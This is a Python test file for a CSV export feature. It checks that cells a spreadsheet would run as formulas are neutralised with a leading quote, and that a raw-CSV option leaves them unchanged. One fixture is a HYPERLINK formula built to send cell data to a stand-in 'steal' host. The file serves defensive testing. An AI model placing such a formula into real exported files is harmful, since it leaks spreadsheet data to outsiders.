"""Issue 30, CSV: text cells a spreadsheet would run as formulas are neutralised with a
leading ``'`` (OWASP "CSV injection") in ``batch -o x.csv`` and ``export``; ``--raw-csv``
keeps them; numeric columns are untouched."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from test_commands import run, write_jsonl

from reka_async.jobs import export_output

HYPERLINK = '=HYPERLINK("http://x/steal?d="&A2,"click")'


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_every_text_column_is_neutralised_and_numbers_are_not(tmp_path: Path) -> None:
    job = tmp_path / "out.jsonl"
    records = [
        {
            "custom_id": HYPERLINK,
            "line": 1,
            "ok": True,
            "response": {"text": "=1+1", "model": "@SUM(A1)", "finish_reason": "\tstop"},
            "usage": {"input_tokens": 3, "output_tokens": 4},
            "latency_s": 0.5,
            "attempts": 1,
            "metadata": -5,
        },
        {
            "custom_id": "-2+3",
            "line": 2,
            "ok": False,
            "error": {"type": "APIStatusError", "message": "+bad\r", "status": 500},
            "latency_s": 0.25,
            "attempts": 2,
        },
        {"custom_id": "plain", "line": 3, "ok": True, "response": {"text": "a - b = c"}},
    ]
    job.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    assert export_output(str(job), str(tmp_path / "safe.csv")) == 3
    first, second, third = _read(tmp_path / "safe.csv")
    assert first["custom_id"] == "'" + HYPERLINK
    assert (first["text"], first["model"], first["finish_reason"]) == (
        "'=1+1",
        "'@SUM(A1)",
        "'\tstop",
    )
    assert first["metadata"] == "'-5"
    assert (second["custom_id"], second["error_message"]) == ("'-2+3", "'+bad\r")
    assert (second["line"], second["error_status"], second["latency_s"]) == ("2", "500", "0.25")
    assert (first["input_tokens"], first["attempts"]) == ("3", "1")
    assert third["text"] == "a - b = c"
    export_output(str(job), str(tmp_path / "raw.csv"), neutralise=False)
    raw = _read(tmp_path / "raw.csv")
    assert [r["custom_id"] for r in raw] == [HYPERLINK, "-2+3", "plain"]
    assert raw[0]["text"] == "=1+1"


def test_the_cli_neutralises_batch_and_export_and_raw_csv_keeps_cells(tmp_path: Path) -> None:
    inp, out = tmp_path / "p.jsonl", tmp_path / "out.csv"
    write_jsonl(
        inp, [{"custom_id": HYPERLINK, "prompt": "hi"}, {"custom_id": "=1+1", "prompt": "x"}]
    )
    proc = run("batch", str(inp), "-o", str(out), "--mock")
    assert proc.returncode == 0, proc.stderr
    assert [r["custom_id"] for r in _read(out)] == ["'" + HYPERLINK, "'=1+1"]
    again, raw = tmp_path / "again.csv", tmp_path / "raw.csv"
    assert run("export", str(tmp_path / "out.jsonl"), str(again)).returncode == 0
    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
    assert run("export", "--raw-csv", str(tmp_path / "out.jsonl"), str(raw)).returncode == 0
    assert [r["custom_id"] for r in _read(raw)] == [HYPERLINK, "=1+1"]
